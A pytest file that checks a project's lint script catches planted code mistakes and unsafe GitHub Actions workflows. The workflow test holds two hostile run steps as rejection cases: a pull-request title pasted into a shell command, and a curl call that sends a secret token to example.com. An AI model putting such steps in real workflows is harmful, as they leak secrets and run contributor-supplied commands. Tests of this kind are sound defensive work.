"""The project's own lint, with mistakes planted for it to find."""

from collections.abc import Iterator
from pathlib import Path
import shutil
import subprocess
import sys

import pytest

ROOT = Path(__file__).parents[1]
COPIED = ("pyproject.toml", "script/bootstrap", "script/lint", "script/release")
PLANTED = "custom_components/plate_recognizer/api/planted.py"
MISTAKES = {
    "style": "import os",
    "format": 'COUNT = { "cars" : 3 }',
    "types": 'COUNT: int = "three"',
    "imports": 'from .. import pipeline\n\n__all__ = ["pipeline"]',
}
WORKFLOW = """\
name: Planted
on: pull_request
permissions:
  contents: read
concurrency:
  group: planted
  cancel-in-progress: true
jobs:
  planted:
    name: Planted
    runs-on: ubuntu-latest
    steps:
      - name: Greet
        run: FAULT
"""


@pytest.fixture(scope="module")
def clone(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Give a copy of the project whose modules are empty: the same rules, soon checked."""
    clone = tmp_path_factory.mktemp("clone with a space")
    for name in COPIED:
        (clone / name).parent.mkdir(exist_ok=True)
        shutil.copy(ROOT / name, clone / name)
    for room in ("custom_components", "sandbox", "bench", "tests"):
        for module in (ROOT / room).rglob("*.py"):
            emptied = clone / module.relative_to(ROOT)
            emptied.parent.mkdir(parents=True, exist_ok=True)
            emptied.write_text('"""Emptied."""\n')
    shutil.copytree(ROOT / ".github", clone / ".github")
    (clone / ".venv").symlink_to(sys.prefix)
    return clone


@pytest.fixture
def planted(clone: Path) -> Iterator[Path]:
    """Give the path of a module that is gone after the test."""
    path = clone / PLANTED
    yield path
    path.unlink(missing_ok=True)


def lint(clone: Path) -> subprocess.CompletedProcess[str]:
    """Run the lint in a clone, from somewhere else."""
    return subprocess.run(  # noqa: S603 - the project's own script
        [clone / "script/lint"], cwd="/", capture_output=True, text=True, check=False
    )


def test_without_a_mistake_the_lint_passes(clone: Path) -> None:
    result = lint(clone)

    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.endswith("Lint passed.\n")


@pytest.mark.parametrize("check", MISTAKES)
def test_a_planted_mistake_fails_the_lint_by_the_check_for_it_alone(
    clone: Path, planted: Path, check: str
) -> None:
    planted.write_text(f'"""Planted."""\n\n{MISTAKES[check]}\n')

    result = lint(clone)

    assert result.returncode == 1
    assert result.stderr.endswith(f"Lint failed: {check}\n")


def test_every_check_runs_whatever_the_ones_before_it_found(clone: Path, planted: Path) -> None:
    planted.write_text("\n".join(MISTAKES.values()))

    assert lint(clone).stderr.endswith("Lint failed: style format types imports\n")


@pytest.mark.parametrize(
    ("command", "is_fault"),
    [
        ("echo Hello", False),
        ("echo ${{ github.event.pull_request.title }}", True),  # a contributor's own command
        ("curl https://example.com/?${{ secrets.TOKEN }}", True),
    ],
)
def test_a_workflow_that_runs_what_a_contributor_writes_fails_the_lint(
    clone: Path, command: str, *, is_fault: bool
) -> None:
    workflow = clone / ".github/workflows/planted.yaml"
    workflow.write_text(WORKFLOW.replace("FAULT", command))

    result = lint(clone)

    workflow.unlink()
    assert result.returncode == int(is_fault), result.stdout + result.stderr
    assert result.stderr.endswith("Lint failed: workflows\n") == is_fault
